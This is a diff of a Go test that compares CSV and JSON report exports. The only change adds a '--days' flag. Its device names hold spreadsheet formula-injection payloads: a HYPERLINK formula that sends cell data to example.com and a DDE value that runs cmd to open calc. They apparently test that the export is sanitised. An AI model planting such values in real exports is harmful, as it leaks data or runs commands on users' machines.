@@ -27,7 +27,7 @@ json.dump([{k: v[1:] if v.startswith("'") else v for k, v in r.items()} for r in
 func TestCSVHasTheRowsOfJSONInPython(t *testing.T) {
 	python := testneed.Command(t, "python3")
 	s := newSite(t)
-	s.muster("demo", "--once", "--devices", "3")
+	s.muster("demo", "--once", "--days", "1", "--devices", "3")
 	for i, name := range []string{`=HYPERLINK("http://example.com?"&A1;"x")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1 (555) 0100", "-2+3", "'quoted",
 		`a "b", c`, "-1.5", "＝1+1"} {
 		s.report(&inventory.Report{Device: inventory.Device{Name: name, OSPlatform: "Linux", Tags: []string{name, "two"}},
